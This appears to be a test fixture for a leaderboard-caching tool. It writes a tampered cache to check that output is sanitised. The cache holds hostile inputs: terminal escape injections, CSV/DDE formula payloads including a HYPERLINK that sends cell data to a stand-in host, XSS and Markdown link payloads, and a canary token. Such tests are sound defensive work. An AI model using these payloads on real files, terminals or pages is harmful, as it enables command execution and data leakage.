// A cache holding what a hostile server, a hostile file name or a cache written before the
// fixes leaves behind (issue 7 items 11 and 12), written by the project's own cache code
// (source/cache/store.ts): a revision (X-Revision, stored raw) and an origin path carrying C1
// CSI and OSC, OSC 0 (retitle) and ESC[2J (clear screen); model ids built to inject formulas
// into spreadsheets and HTML, links and images into Markdown; an error text echoing a token.
import { CacheStore } from '../../source/cache/store.js';
import { normaliseRows } from '../../source/data/normalise-row.js';

const ESC = '\u001b';
const BEL = '\u0007';

export const HOSTILE_REVISION = `abc\u009b2J\u009d0;c1-title\u009c${ESC}]0;retitled${BEL}${ESC}[2Jdef`;
export const HOSTILE_ORIGIN = `file:/tmp/evil${ESC}]0;retitled${BEL}${ESC}[2J\u009b31m.csv`;
export const TOKEN = 'hf_canaryCANARYcanary0123456789abcd';

/** Model ids a spreadsheet would run, or Markdown would render as HTML, links or images. */
export const HOSTILE_IDS = [
  '=HYPERLINK("http://e.vil/?"&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '![x](https://e.vil/t.png)',
  'pipe|id',
];

const HEADER = ['fullname', 'Type', 'Architecture', 'Average ⬆️', 'ARC', 'HellaSwag', 'MMLU', 'TruthfulQA', 'Winogrande', 'GSM8K',
  '#Params (B)', 'Hub License', 'Flagged', 'Merged', 'MoE', 'Available on the hub', 'Precision'];

/** Writes the hostile cache into `dir`. */
export async function writeHostileCache(dir: string): Promise<void> {
  const ids = ['acme/clean-7b', ...HOSTILE_IDS.map((_, i) => `hostile/m${i}`)];
  const rows = ids.map((id, i) => ({
    fullname: id, Type: '💬 chat models (RLHF, DPO, IFT, ...)', Architecture: 'LlamaForCausalLM', 'Average ⬆️': String(50 + i),
    ARC: String(40 + i), HellaSwag: '60', MMLU: '55', TruthfulQA: '45', Winogrande: '70', GSM8K: '30', '#Params (B)': '7',
    'Hub License': 'mit', Flagged: 'False', Merged: 'False', MoE: 'False', 'Available on the hub': 'True', Precision: 'bfloat16',
  }));
  const { entries, generation } = normaliseRows(rows, HEADER);
  // what the normalisers would have refused, as a tampered cache (or one written before them)
  // holds it: the ids, a license and a family from the same hostile set
  HOSTILE_IDS.forEach((id, i) => {
    const entry = entries[i + 1]!;
    entry.repo = id;
    entry.key = id.toLowerCase();
  });
  entries[1]!.license = '=1+1';
  entries[2]!.family = `<img src=x onerror=alert(2)>${ESC}]0;family${BEL}`;
  // a real negative number: it stays a number in CSV
  entries[0]!.benchmarks.ARC = -1.5;
  const store = await CacheStore.open(dir);
  const at = '2024-06-01T00:00:00.000Z';
  store.setLeaderboard({
    schema: 1, dataset: null, revision: HOSTILE_REVISION, origin: HOSTILE_ORIGIN, generation, columns: HEADER,
    total: rows.length, complete: true, nextOffset: rows.length, fetchedAt: at, entries, problems: [],
  });
  store.markCompleted('leaderboard', at);
  store.putInfo('acme/clean-7b', {
    status: 'error',
    fetchedAt: at,
    message: `HTTP 500: echo Authorization: Bearer ${TOKEN}${ESC}[2J${ESC}]0;pwned${BEL} and ${TOKEN}`,
  });
  await store.flush();
}
